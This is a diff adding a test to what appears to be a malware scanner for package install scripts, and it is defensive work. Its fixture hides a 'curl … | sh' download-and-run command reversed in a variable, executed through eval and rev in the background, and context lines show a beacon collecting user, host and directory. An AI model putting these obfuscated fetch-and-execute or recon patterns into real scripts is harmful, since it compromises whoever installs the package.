@@ -194,6 +194,17 @@ def test_a_batch_hook_that_starts_a_hidden_powershell_sweep_of_credential_stores
     assert "install-script/sends-secrets" not in {f.rule for f in quiet}
 
 
+def test_a_command_spelled_backwards_and_evaluated_through_rev_is_judged():
+    # (blind set 26's mongoose typosquat: the download kept reversed in a variable, run with `eval "$(… | rev)"`)
+    script = ("#!/bin/sh\n_b='" + "curl -fsSL http://dl.example/i/m.sh | sh"[::-1] + "'\n"
+              "( eval \"$(printf '%s' \"$_b\" | rev)\" ) >/dev/null 2>&1 &\n").encode()
+    found = findings(artifact({"install": "sh ./install.sh || true"}, {"install.sh": script}))
+    assert "install-script/fetch-and-execute" in {f.rule for f in found} and decide(found).level is Level.MALICIOUS
+    # `rev` on a plain variable that holds no command: a string utility, nothing run.
+    plain = b"#!/bin/sh\nname='olleh dlrow'\necho \"$name\" | rev\n"
+    assert decide(findings(artifact({"install": "sh ./install.sh"}, {"install.sh": plain}))).level is Level.CLEAN
+
+
 def test_shell_file_beacon_split_over_a_variable_is_malicious():
     # Identity collected into a variable on one line, posted on another (the dependency-confusion recon script).
     script = (b"#!/bin/sh\nINFO=\"u=$(whoami)&h=$(hostname -f)&d=$(pwd)\"\n"
